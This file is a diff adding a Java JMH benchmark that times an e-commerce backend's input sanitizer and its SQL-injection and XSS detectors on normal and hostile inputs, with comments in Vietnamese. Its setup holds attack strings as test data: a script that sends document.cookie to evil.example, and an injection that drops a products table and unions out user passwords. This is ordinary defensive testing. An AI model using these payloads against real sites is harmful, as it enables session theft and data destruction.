@@ -0,0 +1,49 @@
+package com.ktpm.backend.benchmark;
+
+import com.ktpm.backend.utils.Validator;
+import org.openjdk.jmh.annotations.*;
+
+import java.util.concurrent.TimeUnit;
+
+// Validator trên input bình thường và input tấn công (gặp ở mọi request tạo/sửa sản phẩm, đăng nhập)
+@BenchmarkMode(Mode.AverageTime)
+@OutputTimeUnit(TimeUnit.NANOSECONDS)
+@Warmup(iterations = 3, time = 1)
+@Measurement(iterations = 5, time = 1)
+@Fork(1)
+@State(Scope.Benchmark)
+public class ValidatorBenchmark {
+
+    @Param({"name", "description", "xss", "sqlInjection", "unclosedQuote"})
+    private String input;
+
+    private String value;
+
+    @Setup
+    public void setUp() {
+        value = switch (input) {
+            case "name" -> "Tai nghe Sony WH-1000XM5";
+            case "description" -> "Laptop mỏng nhẹ, màn hình 13.4 inch, pin 12 giờ, RAM 16GB. ".repeat(8);
+            case "xss" -> "<script>fetch('https://evil.example/?c=' + document.cookie)</script><img src=x onerror=alert(1)>";
+            case "sqlInjection" -> "' OR '1'='1'; DROP TABLE products; -- UNION SELECT username, password FROM users";
+            // nhiều dấu nháy không đóng: mỗi vị trí bắt đầu đều quét tới cuối chuỗi
+            case "unclosedQuote" -> "'a".repeat(250);
+            default -> throw new IllegalArgumentException(input);
+        };
+    }
+
+    @Benchmark
+    public String sanitizeInput() {
+        return Validator.sanitizeInput(value);
+    }
+
+    @Benchmark
+    public boolean containsSqlInjection() {
+        return Validator.containsSqlInjection(value);
+    }
+
+    @Benchmark
+    public boolean containsXSS() {
+        return Validator.containsXSS(value);
+    }
+}